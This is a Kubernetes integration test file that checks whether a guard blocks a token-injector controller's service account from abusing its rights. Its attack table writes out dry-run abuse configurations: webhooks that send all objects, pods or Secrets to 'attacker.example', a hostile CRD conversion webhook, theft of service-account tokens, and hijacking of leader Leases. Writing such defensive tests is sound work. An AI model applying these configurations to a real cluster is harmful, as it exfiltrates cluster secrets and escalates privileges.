import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tokenPolicyDefinition } from '../../../src/core/registration/custom-resource-definition.ts';
import { probeEntry } from '../../../src/core/registration/probe.ts';
import { type KubeObject, accepted } from '../api.ts';
import { eventually } from '../eventually.ts';
import { describeCluster } from '../suite.ts';
import { type GuardedAccount, configuration, openGuardedAccount } from './guarded-account.ts';

const dryRun = { query: { dryRun: 'All' } };

describeCluster('the guard of the controller', ({ api, kubectl }) => {
  let account: GuardedAccount;
  beforeAll(async () => {
    account = await openGuardedAccount(api, kubectl);
  });
  afterAll(() => account?.close());

  const service = () => account.registration.address.service;
  const ours = (name = 'aikido') => account.entry(name);
  const many = (count: number) => Array.from({ length: count }, (_, index) => ours(`p${index}`));
  const everything = [
    { operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] },
  ];
  const definition: KubeObject & { readonly spec: object } = tokenPolicyDefinition();
  const inNamespace = (object: {
    apiVersion: string;
    kind: string;
    name: string;
    spec?: object;
  }) => {
    const { name: called, ...rest } = object;
    return { ...rest, metadata: { name: called, namespace: account.namespace } };
  };

  /** What whoever has the account's token would do with its rights; by apply, or else by create. */
  const attacks: Readonly<Record<string, () => { apply?: KubeObject; create?: KubeObject }>> = {
    'read and change every object, at an address of his own': () => ({
      apply: configuration([
        { ...ours(), clientConfig: { url: 'https://attacker.example/' }, rules: everything },
      ]),
    }),
    'have pods sent to an address of his own': () => ({
      apply: configuration([{ ...ours(), clientConfig: { url: 'https://attacker.example/' } }]),
    }),
    'have pods sent to another Service': () => ({
      apply: configuration([
        { ...ours(), clientConfig: { service: { ...service(), name: 'attacker' } } },
      ]),
    }),
    'have pods sent to the Service of another namespace': () => ({
      apply: configuration([
        { ...ours(), clientConfig: { service: { ...service(), namespace: 'x' } } },
      ]),
    }),
    'have Secrets sent': () => ({
      apply: configuration([
        { ...ours(), rules: [{ ...ours().rules[0], resources: ['secrets'] }] },
      ]),
    }),
    'have role bindings sent beside pods': () => ({
      apply: configuration([
        {
          ...ours(),
          rules: [
            ...ours().rules,
            {
              operations: ['CREATE'],
              apiGroups: ['rbac.authorization.k8s.io'],
              apiVersions: ['v1'],
              resources: ['clusterrolebindings'],
            },
          ],
        },
      ]),
    }),
    'have every change of a pod sent': () => ({
      apply: configuration([{ ...ours(), rules: [{ ...ours().rules[0], operations: ['*'] }] }]),
    }),
    'stop the creation of pods': () => ({
      apply: configuration([{ ...ours(), failurePolicy: 'Fail' }]),
    }),
    'delay pods for longer than the controller would': () => ({
      apply: configuration([{ ...ours(), timeoutSeconds: 2 }]),
    }),
    'delay them by more entries than the controller registers': () => ({
      apply: configuration(many(302)),
    }),
    'delay them by paths that are of no policy': () => ({
      apply: configuration([
        { ...ours(), clientConfig: { service: { ...service(), path: '/mutate/nobody' } } },
      ]),
    }),
    'delay them by a port at which nobody listens': () => ({
      apply: configuration([
        {
          ...ours(),
          clientConfig: { service: { ...service(), path: '/mutate/aikido', port: 444 } },
        },
      ]),
    }),
    'delay them by conditions that take long': () => ({
      apply: configuration([
        {
          ...ours(),
          matchConditions: [
            {
              name: 'not-a-mirror-pod',
              expression: 'object.spec.containers.all(a, object.spec.containers.all(b, a != b))',
            },
          ],
        },
      ]),
    }),
    'add a condition of another name': () => ({
      apply: configuration([
        { ...ours(), matchConditions: [{ ...ours().matchConditions[0]!, name: 'x' }] },
      ]),
    }),
    'repeat rules': () => ({
      apply: configuration([
        { ...ours(), rules: Array.from({ length: 3 }, () => ours().rules[0]) },
      ]),
    }),
    'have the ConfigMaps of another namespace sent as if for the probe': () => ({
      apply: configuration([probeEntry({ ...account.registration, ownNamespace: 'kube-system' })]),
    }),
    'have ConfigMaps without the label of the probe sent': () => ({
      apply: configuration([{ ...probeEntry(account.registration), objectSelector: {} }]),
    }),
    'have pods sent as if for the probe, which fails closed': () => ({
      apply: configuration([{ ...probeEntry(account.registration), rules: ours().rules }]),
    }),
    'hide it behind an entry of ours': () => ({
      apply: configuration([
        ours(),
        probeEntry(account.registration),
        { ...ours('x'), rules: everything },
      ]),
    }),
    'have policies converted by a webhook': () => ({
      apply: {
        ...definition,
        spec: {
          ...definition.spec,
          conversion: {
            strategy: 'Webhook',
            webhook: {
              clientConfig: { url: 'https://attacker.example/' },
              conversionReviewVersions: ['v1'],
            },
          },
        },
      },
    }),
    'get the token of another account of the namespace': () => ({
      create: {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: {
          name: 'x',
          namespace: account.namespace,
          annotations: { 'kubernetes.io/service-account.name': 'default' },
        },
        type: 'kubernetes.io/service-account-token',
      },
    }),
    'get it under the name of a Secret of ours': () => ({
      create: {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: {
          name: `${account.name}-tls`,
          namespace: account.namespace,
          annotations: { 'kubernetes.io/service-account.name': 'default' },
        },
        type: 'kubernetes.io/service-account-token',
      },
    }),
    'make a Secret that something else reads': () => ({
      create: inNamespace({ apiVersion: 'v1', kind: 'Secret', name: 'x' }),
    }),
    'keep another program from leading': () => ({
      create: inNamespace({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', name: 'x' }),
    }),
    'keep the controller from leading for days': () => ({
      create: inNamespace({
        apiVersion: 'coordination.k8s.io/v1',
        kind: 'Lease',
        name: `${account.name}-controller`,
        spec: { holderIdentity: 'x', leaseDurationSeconds: 1_000_000 },
      }),
    }),
  };
  const attempt = (attack: string) => {
    const { apply, create } = attacks[attack]!();
    return apply
      ? account.api.apply(apply, { ...dryRun, force: true })
      : account.api.create(create!, dryRun);
  };
  const each = Object.keys(attacks);
  const makeConfigMap = (options: typeof dryRun | undefined) =>
    account.api.create(
      inNamespace({ apiVersion: 'v1', kind: 'ConfigMap', name: 'probe' }),
      options,
    );

  describe('without it, the rights of the account', () => {
    it.each(each)('let it %s', async (attack) => {
      await accepted(attempt(attack) as Promise<never>);
    });
  });

  describe('keeps the account from what its rights allow:', () => {
    beforeAll(async () => {
      for (const object of account.guards) await accepted(api.apply(object));
      // Each of them comes into force by itself.
      await eventually('the guard to be in force', async () => {
        const answers = await Promise.all(
          [
            'have Secrets sent',
            'have policies converted by a webhook',
            'make a Secret that something else reads',
            'keep another program from leading',
          ].map(attempt),
        );
        expect(answers.map(({ ok }) => ok)).not.toContain(true);
        expect(await makeConfigMap(undefined)).toMatchObject({ ok: false });
      });
    });

    it.each(each)('to %s', async (attack) => {
      const { ok, body } = await attempt(attack);
      expect({ ok, body }).toMatchObject({
        ok: false,
        body: { message: expect.stringMatching(/'token-injector-guarded\.guard\.\w+' denied/) },
      });
    });

    it('to create ConfigMaps that stay', async () => {
      expect(await makeConfigMap(undefined)).toMatchObject({ ok: false });
      await accepted(makeConfigMap(dryRun));
    });
  });

  it('leaves the account what it does', async () => {
    const registered = configuration([ours(), probeEntry(account.registration)]);
    await accepted(account.api.apply(registered, { ...dryRun, force: true }));
    await accepted(account.api.apply(configuration([]), { ...dryRun, force: true }));
    const secret = { apiVersion: 'v1', kind: 'Secret' };
    await accepted(
      account.api.create(inNamespace({ ...secret, name: `${account.name}-ca` }), dryRun),
    );
    const lease = { apiVersion: 'coordination.k8s.io/v1', kind: 'Lease' };
    const spec = { holderIdentity: 'x', leaseDurationSeconds: 15 };
    const ownLease = inNamespace({ ...lease, name: `${account.name}-controller`, spec });
    await accepted(account.api.create(ownLease, dryRun));
  });

  it('can afford as many entries as fit', async () => {
    const entries = [...many(300), probeEntry(account.registration)];
    await accepted(account.api.apply(configuration(entries), { ...dryRun, force: true }));
  });

  it('is out of reach of the account, also where it may have pods refused', async () => {
    const validatingPolicy = { ...account.guards[0]!, metadata: { name: 'token-injector-aikido' } };
    await accepted(account.api.apply(validatingPolicy, { ...dryRun, force: true }));
    for (const guard of account.guards) {
      const removal = await account.api.delete(guard, dryRun);
      expect(`${guard.kind}: ${removal.status}`).toBe(`${guard.kind}: 403`);
      const change = await account.api.patch(guard, { metadata: { labels: { a: 'b' } } }, dryRun);
      expect(`${guard.kind}: ${change.status}`).toBe(`${guard.kind}: 403`);
    }
  });

  it('concerns nobody else', async () => {
    const { apply } = attacks['have Secrets sent']!();
    await accepted(api.apply(apply!, { ...dryRun, force: true }));
  });
});
